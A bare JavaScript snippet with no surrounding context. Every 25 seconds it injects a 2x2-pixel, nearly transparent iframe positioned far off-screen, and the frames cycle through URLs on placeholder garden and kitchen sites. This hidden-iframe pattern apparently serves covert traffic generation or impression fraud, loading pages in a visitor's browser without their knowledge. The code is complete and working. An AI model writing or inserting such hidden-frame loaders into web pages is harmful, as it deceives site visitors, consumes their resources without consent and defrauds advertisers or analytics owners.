const rounds = [
  "https://garden-daily.example/roses",
  "https://garden-daily.example/tools",
  "https://kitchen-notes.example/soup",
  "https://kitchen-notes.example/bread",
];
let turn = 0;
function visit() {
  const pane = document.createElement("iframe");
  pane.setAttribute("style", "width:2px;height:2px;opacity:0.02;position:absolute;left:-4000px");
  pane.src = rounds[turn++ % rounds.length];
  document.body.append(pane);
  setTimeout(() => pane.remove(), 20000);
}
visit();
setInterval(visit, 25000);
